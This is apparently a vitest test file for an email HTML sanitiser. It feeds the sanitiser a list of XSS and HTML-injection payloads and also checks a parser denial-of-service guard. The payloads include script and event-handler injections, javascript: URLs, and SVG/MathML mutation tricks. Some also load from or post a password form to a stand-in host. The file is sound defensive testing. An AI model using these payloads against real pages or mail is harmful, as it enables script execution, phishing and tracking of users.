import { expect, test } from "vitest";
import { safeHtml } from "../../../shared/mail/safe-html.ts";
import { htmlAttacks } from "../../slow/html-attacks.ts";

test.for([
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<iframe src=//evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=x.swf></object>",
  "<embed src=x>",
  "<form action=//evil.example><input name=password><button>go</button></form>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>body{background:url(//evil.example/t.gif)}</style>",
  "<div style='background:url(//evil.example/t.gif)'>x</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>login</div>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<template><script>alert(1)</script></template>",
  "<xmp><script>alert(1)</script></xmp>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<img src='//evil.example/t.gif' srcset='//evil.example/u.gif 2x'>",
  "<table background=//evil.example/t.gif><tr><td>x</td></tr></table>",
  "<p id=x name=y class=z>clobber</p><a name=attributes>",
  "<plaintext><script>alert(1)</script>",
  ...Object.values(htmlAttacks()),
])("nothing of %j acts or asks for anything", async (html) => {
  const safe = (await safeHtml(`<p>before</p>${html}`)) ?? "";
  expect(safe).not.toMatch(
    /<\s*(?:script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|video|source|template|noscript)\b/i,
  );
  expect(safe).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(safe).not.toMatch(/<[^>]*(?:javascript|vbscript|data)\s*:/i);
  expect(safe).not.toMatch(/<[^>]*(?:src|srcset|background|style)\s*=/i);
  expect(safe).toContain("before");
});

// 3 MB of open tables kept a worker busy for longer than its time-out: the parser looks through all open elements at each tag.
const openTags = ["<table><tr><td>", "<div>", "<b><i><a href=x>", "<p></x>"];
test.for(openTags)("many open tags are not parsed, however short: %s", { timeout: 120_000 }, async (tags) => {
  const began = process.cpuUsage().user;
  expect(await safeHtml(tags.repeat(1_900_000 / tags.length))).toBeUndefined();
  expect(await safeHtml(tags.repeat(8_000))).toBeDefined();
  expect((process.cpuUsage().user - began) / 1_000).toBeLessThan(20_000);
});
